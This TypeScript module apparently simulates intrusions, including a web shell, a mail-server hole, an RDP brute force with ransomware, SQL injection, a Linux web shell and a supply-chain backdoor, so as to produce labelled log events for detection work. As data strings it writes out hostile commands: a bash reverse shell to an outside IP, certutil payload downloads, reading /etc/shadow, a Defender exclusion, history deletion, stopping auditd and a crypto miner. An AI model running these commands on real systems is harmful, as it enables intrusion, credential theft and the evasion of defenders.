/** Attacks that come in by a server that faces the internet, on Windows and Linux. */
import type { Cast } from "./cast.ts";
import type { Process } from "./session.ts";
import { becomeSystem, dumpCredentials, encrypt, lookAround, moveTo, readDirectory } from "./steps.ts";

/** A web shell in IIS, SYSTEM by a potato, another server with the local administrator's hash. */
export function webShell(cast: Cast): void {
  const { intruder } = cast;
  const web = cast.server();
  // An account that each machine has for itself.
  const pool = { machine: web, user: "DefaultAppPool", authority: "IIS APPPOOL", logonId: "0x4a1c2" };
  const worker = intruder.process(pool, "w3wp.exe", 'w3wp.exe -ap "DefaultAppPool"');
  const shell = intruder.start(worker, "cmd.exe", "cmd.exe /c whoami & net user", "web_child webshell webshell_recon");
  lookAround(cast, shell);
  intruder.wait(10, 120);
  const tool = intruder.start(shell, "gp.exe", "gp.exe -cmd cmd", "potato");
  const system = intruder.start(tool, "cmd.exe", "cmd.exe", "system_shell", intruder.system(web));
  dumpCredentials(cast, system);
  intruder.wait(5, 120);
  const next = moveTo(cast, system, cast.server(), intruder.dice.chance(0.5) ? null : cast.account());
  lookAround(cast, next);
  dumpCredentials(cast, next);
}

/** The mail server's hole: SYSTEM at once, mailboxes, then the domain by WMI. */
export function mailServer(cast: Cast): void {
  const { intruder } = cast;
  const mail = cast.server();
  const worker = intruder.process(intruder.system(mail), "w3wp.exe", 'w3wp.exe -ap "MSExchangePowerShellAppPool"');
  intruder.act(worker, 11, { TargetFilename: "C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx" }, "aspx_write");
  const shell = intruder.start(
    worker,
    "powershell.exe",
    "powershell New-MailboxExportRequest",
    "mailbox_export web_child",
  );
  lookAround(cast, shell);
  dumpCredentials(cast, shell);
  intruder.wait(20, 150);
  readDirectory(cast, shell, cast.account());
}

/** Passwords tried at an open remote desktop, then ransomware where it got in. */
export function openDesktop(cast: Cast): void {
  const { intruder } = cast;
  const { dice } = intruder;
  const server = cast.server();
  const user = cast.user();
  const from = { ip: intruder.outside() };
  for (let at = 0; at < dice.int(1, 4); at++)
    intruder.event(
      { ...intruder.atWork(server, user), logonId: "0x0" },
      4625,
      "Security",
      { TargetUserName: user, TargetLogonId: "0x0", LogonType: "10", IpAddress: from.ip },
      "failed_public",
      from.ip,
    );
  const session = intruder.logon(server, user, from, 10, "rdp_public");
  const explorer = intruder.process(session, "explorer.exe");
  const cmd = intruder.start(explorer, "cmd.exe", "cmd.exe", "");
  intruder.start(cmd, "powershell.exe", "powershell Add-MpPreference -ExclusionPath C:\\", "defender_excl");
  const system = becomeSystem(cast, cmd);
  dumpCredentials(cast, system);
  if (dice.chance(0.5)) lookAround(cast, cmd);
  intruder.wait(20, 180);
  const hosts = [server, ...Array.from({ length: dice.int(1, 4) }, () => cast.server())];
  encrypt(cast, hosts, dice.chance(0.5) ? user : null, { machine: server, ip: server.ip });
}

/** SQL injection: the database's account, then the machine's. */
export function database(cast: Cast): void {
  const { intruder } = cast;
  const server = cast.server();
  // A service of its own account in the domain.
  const service = intruder.atWork(server, cast.user());
  const sql = intruder.process(service, "C:\\Program Files\\Microsoft SQL Server\\sqlservr.exe");
  const shell = intruder.start(
    sql,
    "cmd.exe",
    'cmd.exe /c "whoami & certutil -urlcache -f http://x/a.exe"',
    "sql_child",
  );
  intruder.start(shell, "certutil.exe", `certutil -urlcache -f http://${intruder.outside()}/a.exe`, "certutil");
  lookAround(cast, shell);
  const system = becomeSystem(cast, shell);
  dumpCredentials(cast, system);
  intruder.wait(5, 100);
  if (intruder.dice.chance(0.6)) moveTo(cast, system, cast.server(), cast.account());
}

/** A web shell on Linux as the web server's account, root, and by a key to the next machine. */
export function linuxWebShell(cast: Cast): void {
  const { intruder } = cast;
  const { dice } = intruder;
  const web = cast.server();
  const worker = {
    pid: dice.int(800, 3000),
    guid: intruder.process(intruder.system(web), "x").guid,
    exe: "/usr/sbin/apache2",
    session: 4_294_967_295,
  };
  const account = dice.pick(["www-data", "tomcat", "nginx"]);
  const shell = intruder.linux(web, account, worker, "/bin/sh", "sh -c id", "linux_webshell");
  intruder.linux(web, account, shell, "/usr/bin/whoami", "whoami", "linux_recon");
  intruder.linux(web, account, shell, "/bin/bash", "bash -c bash -i >& /dev/tcp/185.1.1.1/443 0>&1", "linux_reverse");
  intruder.linux(web, account, shell, "/usr/bin/base64", "echo aQ== | base64 -d | sh", "linux_base64");
  intruder.wait(2, 90);
  const root = intruder.linux(web, "root", shell, "/usr/bin/sudo", "sudo -u#-1 /bin/bash", "linux_sudo");
  intruder.linux(web, "root", root, "/usr/bin/cat", "cat /etc/shadow", "linux_shadow");
  intruder.linux(web, "root", root, "/usr/bin/crontab", "crontab /tmp/.c", "linux_cron");
  intruder.linux(web, "root", root, "/bin/rm", "rm /root/.bash_history", "linux_history");
  if (dice.chance(0.5)) return;
  intruder.wait(2, 60);
  const next = cast.server();
  const key = cast.user();
  intruder.linux(
    web,
    "root",
    root,
    "/usr/bin/ssh",
    `ssh -i /root/.ssh/deploy ${key}@${next.name.split(".")[0]}`,
    "linux_ssh",
  );
  const login = {
    pid: dice.int(800, 3000),
    guid: intruder.process(intruder.system(next), "x").guid,
    exe: "/usr/sbin/sshd",
    session: dice.int(10, 900),
  };
  const there = intruder.linux(next, key, login, "/bin/bash", "bash /tmp/x.sh", "linux_download");
  intruder.linux(next, key, there, "/usr/bin/systemctl", "systemctl stop auditd", "linux_tools");
  intruder.linux(next, key, there, "/tmp/xmrig", "xmrig --donate-level 1 -o stratum+tcp://pool", "linux_miner");
}

/** A vendor's update with a back door, on three machines at once; hands on the keyboard on one. */
export function supplyChain(cast: Cast): void {
  const { intruder } = cast;
  const { dice } = intruder;
  const hosts = Array.from({ length: dice.int(2, 3) }, () => cast.server());
  const shells: Process[] = [];
  for (const machine of hosts) {
    const service = intruder.process(intruder.system(machine), "C:\\Program Files\\Vendor\\agent.exe");
    const shell = intruder.start(service, "cmd.exe", "cmd /c powershell -enc SQBFAFgA", "system_shell");
    intruder.start(shell, "powershell.exe", "powershell -enc SQBFAFgA", "ps_encoded ps_base64");
    shells.push(shell);
  }
  intruder.wait(20, 200);
  const [first, second] = shells;
  if (first === undefined || second === undefined) return;
  lookAround(cast, first);
  dumpCredentials(cast, first);
  intruder.wait(2, 60);
  const there = moveTo(cast, first, second.session.machine, dice.chance(0.5) ? null : cast.account());
  dumpCredentials(cast, there);
}
